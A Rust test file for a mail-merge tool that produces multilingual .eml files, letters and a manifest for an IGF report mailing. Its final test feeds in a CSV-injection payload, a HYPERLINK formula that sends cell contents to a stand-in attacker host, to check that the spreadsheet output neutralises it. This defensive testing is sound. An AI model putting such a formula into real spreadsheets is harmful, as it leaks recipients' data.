//! Mailings without a server: one `.eml` per fixture institution, checked
//! with an independent parser (Python's `email`), deterministic across
//! runs, with a manifest; a failing letter fails only its recipient.

mod support;

use bpfpress::mail::{Language, LetterError, MailText, Recipient, Role, RunOptions, Status};
use serde_json::json;
use support::mail::*;
use support::{fixture, list_dir, python_with};

fn dry_run(dir: &std::path::Path) -> bpfpress::mail::Manifest {
    let mut o = RunOptions::new(dir);
    o.progress = false;
    o.threads = 2;
    campaign()
        .run(&institutions(), &fixture_letter(), &o)
        .unwrap()
}

#[test]
fn eml_files_parse_with_python_email_and_attachments_are_byte_identical() {
    if !python_with("email") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let m = dry_run(dir.path());
    let rs = institutions();
    assert_eq!(m.entries.len(), 21);
    assert!(m.dry_run);
    assert_eq!(
        m.summary(),
        "21 recipients: 21 generated (dry run: nothing was sent; add --send to deliver)"
    );
    assert_eq!(m.count(Status::Generated), 21, "{:#?}", m.entries);
    assert!(
        !dir.path().join("send-log.jsonl").exists(),
        "a dry run must not touch the send log"
    );

    let c = campaign();
    let mut spec = Vec::new();
    for (e, r) in m.entries.iter().zip(&rs.list) {
        assert_eq!(e.stem, r.stem);
        let (subject, _) = c.render_text(r);
        let letter_path = dir.path().join(e.letter.as_ref().unwrap());
        spec.push(json!({
            "eml": dir.path().join(e.eml.as_ref().unwrap()),
            "from": ["Secrétariat du FGI – IGF Secretariat", "igf-bpf@secretariat.example.org"],
            "to": [r.display_name(), r.email.as_ref().unwrap()],
            "subject": subject,
            "message_id": e.message_id.as_ref().unwrap(),
            "text_contains": [r.salutation.as_str(), "https://www.intgovforum.example.org/bpf-on-bpfs-2020.pdf", "Zoë Ångström", "BPF on BPFs: Output Report 2020"],
            "html_contains": ["<a href=\"https://www.intgovforum.example.org/bpf-on-bpfs-2020.pdf\">"],
            "attachments": [
                [MailText::letter_filename(r.language), "application/pdf", letter_path],
                ["bpf-on-bpfs-2020-report.pdf", "application/pdf", fixture(REPORT)],
                ["key-takeaways.pdf", "application/pdf", fixture(TAKEAWAYS)],
            ],
        }));
    }
    // The names in each script really are in the headers we check.
    let names: Vec<&str> = rs.list.iter().map(|r| r.display_name()).collect();
    for n in [
        "ليلى حداد",
        "王小明",
        "Олег Петров",
        "María José Fernández Núñez",
        "Søren Østergård",
    ] {
        assert!(names.contains(&n), "{n}");
    }
    assert_eq!(check_eml(&json!(spec), dir.path()), "ok 21");
}

#[test]
fn reruns_give_identical_files_and_manifest() {
    let a = tempfile::tempdir().unwrap();
    let b = tempfile::tempdir().unwrap();
    dry_run(a.path());
    dry_run(b.path());
    dry_run(b.path()); // over existing files
    assert_eq!(
        list_dir(&a.path().join("mail")),
        list_dir(&b.path().join("mail"))
    );
    assert_eq!(list_dir(&a.path().join("mail")).len(), 21);
    for sub in ["mail", "letters"] {
        for f in list_dir(&a.path().join(sub)) {
            assert_eq!(
                std::fs::read(a.path().join(sub).join(&f)).unwrap(),
                std::fs::read(b.path().join(sub).join(&f)).unwrap(),
                "{sub}/{f} differs between runs"
            );
        }
    }
    for f in ["mailing.csv", "mailing.json"] {
        assert_eq!(
            std::fs::read(a.path().join(f)).unwrap(),
            std::fs::read(b.path().join(f)).unwrap()
        );
    }
    // no temporary files left behind
    assert!(list_dir(a.path()).iter().all(|n| !n.ends_with(".part")));

    let eml = std::fs::read_to_string(
        a.path()
            .join("mail/002-international-telecommunication-union-itu.eml"),
    )
    .unwrap();
    assert!(
        eml.contains("Date: Tue, 01 Dec 2020 09:00:00 +0000\r\n"),
        "{}",
        &eml[..600]
    );
    assert!(eml.contains("Message-ID: <"), "{}", &eml[..600]);
    assert!(eml.contains(".bpfpress@secretariat.example.org>"));
}

#[test]
fn manifest_lists_files_and_status() {
    let dir = tempfile::tempdir().unwrap();
    dry_run(dir.path());
    let csv = std::fs::read_to_string(dir.path().join("mailing.csv")).unwrap();
    let mut lines = csv.lines();
    assert_eq!(
        lines.next().unwrap(),
        "row,stem,organisation,contact_name,email,language,letter,eml,message_id,status,reason,salutation,warnings"
    );
    let first = lines.next().unwrap();
    assert!(first.starts_with("1,001-unesco-communication-and-information-sector,UNESCO – Communication and Information Sector,Amélie Dubois-Lefèvre,a.dubois-lefevre@unesco.example.org,fr,letters/001-unesco-communication-and-information-sector.pdf,mail/001-unesco-communication-and-information-sector.eml,<"), "{first}");
    assert!(
        first.ends_with(",generated,,\"Madame la Directrice,\","),
        "{first}"
    );
    assert_eq!(lines.count(), 20);
    let json: serde_json::Value =
        serde_json::from_slice(&std::fs::read(dir.path().join("mailing.json")).unwrap()).unwrap();
    assert_eq!(json["dry_run"], true);
    assert_eq!(
        json["date"],
        serde_json::json!({"year": 2020, "month": 12, "day": 1})
    );
    assert_eq!(json["entries"].as_array().unwrap().len(), 21);
}

#[test]
fn a_failing_letter_fails_only_its_recipient() {
    let dir = tempfile::tempdir().unwrap();
    let good = fixture_letter();
    let maker = move |r: &Recipient| -> Result<Vec<u8>, LetterError> {
        if r.index == 11 {
            Err("missing glyph for U+738B in the letter font".into())
        } else if r.index == 12 {
            panic!("renderer bug")
        } else {
            good(r)
        }
    };
    let mut o = RunOptions::new(dir.path());
    o.progress = false;
    o.eml = false;
    let m = campaign().run(&institutions(), &maker, &o).unwrap();
    assert_eq!(m.count(Status::Generated), 19);
    assert_eq!(m.entries[10].status, Status::Failed);
    assert_eq!(
        m.entries[10].reason.as_deref(),
        Some("letter: missing glyph for U+738B in the letter font")
    );
    assert_eq!(
        m.entries[11].reason.as_deref(),
        Some("letter: the letter maker panicked")
    );
    assert!(
        !dir.path()
            .join("letters/011-asia-pacific-telecommunity-apt.pdf")
            .exists()
    );
    assert!(
        dir.path()
            .join("letters/010-organization-of-american-states-oas.pdf")
            .exists()
    );
    assert!(
        !dir.path().join("mail").exists(),
        "no .eml without eml/send"
    );
}

/// The writer threads report a file they cannot put in place as that
/// recipient's failure, naming the file; the manifest lists only files on
/// disk, and the other recipients are written.
#[test]
fn a_file_that_cannot_be_written_fails_only_its_recipient() {
    let dir = tempfile::tempdir().unwrap();
    // A folder where message 3 should go: the rename over it fails.
    let blocked = dir
        .path()
        .join("mail/003-un-department-of-economic-and-social-affairs-un.eml");
    std::fs::create_dir_all(blocked.join("in-the-way")).unwrap();
    let m = dry_run(dir.path());
    let e = &m.entries[2];
    assert_eq!(
        e.stem,
        "003-un-department-of-economic-and-social-affairs-un"
    );
    assert_eq!(e.status, Status::Failed);
    assert_eq!(e.eml, None);
    assert_eq!(
        e.letter.as_deref(),
        Some("letters/003-un-department-of-economic-and-social-affairs-un.pdf")
    );
    assert!(
        e.reason
            .as_deref()
            .unwrap_or("")
            .starts_with("mail/003-un-department-of-economic-and-social-affairs-un.eml: "),
        "{:?}",
        e.reason
    );
    assert_eq!(m.count(Status::Generated), m.entries.len() - 1);
    assert!(
        m.outputs
            .iter()
            .all(|o| o.path != "mail/003-un-department-of-economic-and-social-affairs-un.eml")
    );
    let eml = list_dir(&dir.path().join("mail"));
    assert_eq!(eml.len(), m.entries.len(), "{eml:?}");
    assert!(
        eml.iter().all(|n| !n.ends_with(".part")),
        "no temporary file left: {eml:?}"
    );
}

/// A recipient whose message cannot be made (no address) fails with the
/// reason, and its letter is still written (it can go by post).
#[test]
fn a_message_that_cannot_be_made_keeps_its_letter() {
    let dir = tempfile::tempdir().unwrap();
    let mut rs = institutions();
    rs.list[4].email = None;
    let mut o = RunOptions::new(dir.path());
    o.progress = false;
    o.threads = 2;
    let m = campaign().run(&rs, &fixture_letter(), &o).unwrap();
    let e = &m.entries[4];
    assert_eq!(e.status, Status::Failed);
    assert_eq!(e.reason.as_deref(), Some("message: no email address"));
    assert_eq!(e.eml, None);
    let letter = e.letter.as_deref().unwrap_or("");
    assert!(dir.path().join(letter).is_file(), "{letter:?}");
    assert_eq!(m.count(Status::Generated), m.entries.len() - 1);
    assert_eq!(
        list_dir(&dir.path().join("mail")).len(),
        m.entries.len() - 1
    );
}

#[test]
fn skipped_rows_are_in_the_manifest() {
    let dir = tempfile::tempdir().unwrap();
    let rs = bpfpress::mail::recipients::load(
        &fixture("recipients/bad/problems.csv"),
        bpfpress::mail::LoadOptions {
            require_email: true,
            skip_invalid: true,
        },
    )
    .unwrap();
    let mut o = RunOptions::new(dir.path());
    o.progress = false;
    let m = campaign().run(&rs, &fixture_letter(), &o).unwrap();
    let st: Vec<_> = m.entries.iter().map(|e| (e.row, e.status)).collect();
    assert_eq!(st[0], (1, Status::Generated));
    assert_eq!(st.len(), 7);
    assert!(st[1..].iter().all(|(_, s)| *s == Status::Skipped));
    assert!(
        m.entries[2]
            .reason
            .as_deref()
            .unwrap()
            .contains("column email")
    );
}

#[test]
fn user_mail_texts_replace_the_built_in_ones_per_language() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("mail.fr.txt"),
        "Subject: Rapport {title} — pour {organisation}\n\n{salutation}\n\nVoici le rapport : {url}\n",
    )
    .unwrap();
    let mut c = campaign();
    c.texts = MailText::load_dir(dir.path()).unwrap();
    assert_eq!(c.texts.len(), 1);
    let rs = institutions();
    let (subject, body) = c.render_text(&rs.list[0]);
    assert_eq!(
        subject,
        "Rapport BPF on BPFs: Output Report 2020 — pour UNESCO – Communication and Information Sector"
    );
    assert_eq!(
        body,
        "Madame la Directrice,\n\nVoici le rapport : https://www.intgovforum.example.org/bpf-on-bpfs-2020.pdf\n"
    );
    // English recipients keep the built-in text
    assert!(
        c.render_text(&rs.list[1])
            .1
            .contains("On behalf of the IGF Best Practice Forum")
    );

    std::fs::write(dir.path().join("mail.es.txt"), "Subject: x\n\n{saludo}\n").unwrap();
    let e = MailText::load_dir(dir.path()).unwrap_err().to_string();
    assert!(
        e.contains("mail.es.txt: line 3: unknown placeholder {saludo}"),
        "{e}"
    );
}

/// The mail names only what it carries: without a takeaways sheet it
/// promises no summary, in every language; with one it names it. Checked
/// by Python's `email` on the `.eml` files.
#[test]
fn mails_mention_only_the_attachments_they_carry() {
    if !python_with("email") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let rs = institutions();
    let mut spec = Vec::new();
    for (sub, with_sheet) in [("with", true), ("without", false)] {
        let mut c = campaign();
        if !with_sheet {
            c.shared.retain(|a| a.role != Role::Takeaways);
        }
        let mut o = RunOptions::new(dir.path().join(sub));
        o.progress = false;
        o.threads = 2;
        let m = c.run(&rs, &fixture_letter(), &o).unwrap();
        assert_eq!(m.count(Status::Generated), 21);
        for (e, r) in m.entries.iter().zip(&rs.list) {
            let (subject, text) = c.render_text(r);
            let sentence =
                bpfpress::mail::campaign::attachments_sentence(r.language, true, with_sheet);
            assert!(text.contains(&sentence), "{text}");
            // Words that announce a summary, per language.
            let summary = match r.language {
                Language::En => "summary",
                Language::Fr => "synthèse",
                Language::Es => "resumen",
                Language::Ru => "резюме",
                Language::Zh => "摘要",
                Language::Ar => "ملخص",
            };
            let mut attachments = vec![
                json!([
                    MailText::letter_filename(r.language),
                    "application/pdf",
                    dir.path().join(sub).join(e.letter.as_ref().unwrap())
                ]),
                json!([
                    "bpf-on-bpfs-2020-report.pdf",
                    "application/pdf",
                    fixture(REPORT)
                ]),
            ];
            if with_sheet {
                attachments.push(json!([
                    "key-takeaways.pdf",
                    "application/pdf",
                    fixture(TAKEAWAYS)
                ]));
            }
            spec.push(json!({
                "eml": dir.path().join(sub).join(e.eml.as_ref().unwrap()),
                "from": ["Secrétariat du FGI – IGF Secretariat", "igf-bpf@secretariat.example.org"],
                "to": [r.display_name(), r.email.as_ref().unwrap()],
                "subject": subject,
                "message_id": e.message_id.as_ref().unwrap(),
                "text_contains": if with_sheet { vec![sentence.as_str(), summary] } else { vec![sentence.as_str()] },
                "text_lacks": if with_sheet { vec!["two-page", "deux pages"] } else { vec![summary, "two-page"] },
                "html_contains": [],
                "attachments": attachments,
            }));
        }
    }
    assert_eq!(check_eml(&json!(spec), dir.path()), "ok 42");
}

/// `mailing.csv` is opened in spreadsheet programs: a cell that begins
/// with `=`, `+`, `-`, `@`, a tab or a carriage return is written with a
/// leading `'` (OWASP CSV injection), so no formula runs; `mailing.json`
/// keeps the data as it is. Display names wrapped in quotes are not quoted
/// twice in the `To:` header.
#[test]
fn mailing_csv_neutralises_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let csv_in = dir.path().join("evil.csv");
    std::fs::write(
        &csv_in,
        "organisation,contact_name,email,notes\n\
         \"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",\"\"\"Jane Doe\"\"\",a@evil.example.org,\n\
         +Plus Agency,@SUM(A1:A9),b@evil.example.org,\n\
         -Minus Office,Normal Name,c@evil.example.org,\n\
         Fine Ministry,=1+1,d@evil.example.org,\n",
    )
    .unwrap();
    let rs = bpfpress::mail::recipients::load(
        &csv_in,
        bpfpress::mail::LoadOptions {
            require_email: true,
            skip_invalid: false,
        },
    )
    .unwrap();
    let mut o = RunOptions::new(dir.path().join("out"));
    o.progress = false;
    let m = campaign().run(&rs, &fixture_letter(), &o).unwrap();
    assert_eq!(m.count(Status::Generated), 4);
    let mut rdr = csv::Reader::from_path(dir.path().join("out/mailing.csv")).unwrap();
    let headers = rdr.headers().unwrap().clone();
    let col = |n: &str| headers.iter().position(|h| h == n).unwrap();
    let rows: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
    let cell = |r: usize, c: &str| rows[r][col(c)].to_owned();
    assert_eq!(
        cell(0, "organisation"),
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
    );
    assert_eq!(cell(1, "organisation"), "'+Plus Agency");
    assert_eq!(cell(1, "contact_name"), "'@SUM(A1:A9)");
    assert_eq!(cell(2, "organisation"), "'-Minus Office");
    assert_eq!(cell(3, "contact_name"), "'=1+1");
    assert_eq!(cell(3, "organisation"), "Fine Ministry");
    for r in &rows {
        for c in r.iter() {
            assert!(
                !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "formula-like cell {c:?}"
            );
        }
    }
    // The JSON manifest keeps the organisation as written.
    let json: serde_json::Value =
        serde_json::from_slice(&std::fs::read(dir.path().join("out/mailing.json")).unwrap())
            .unwrap();
    assert_eq!(
        json["entries"][0]["organisation"],
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
    );
    // A name wrapped in quotes is not quoted twice in the header.
    let eml = std::fs::read_to_string(
        dir.path()
            .join("out")
            .join(m.entries[0].eml.as_ref().unwrap()),
    )
    .unwrap();
    let to = eml.lines().find(|l| l.starts_with("To:")).unwrap();
    assert!(!to.contains("\\\""), "{to}");
    assert!(to.contains("Jane Doe"), "{to}");
}
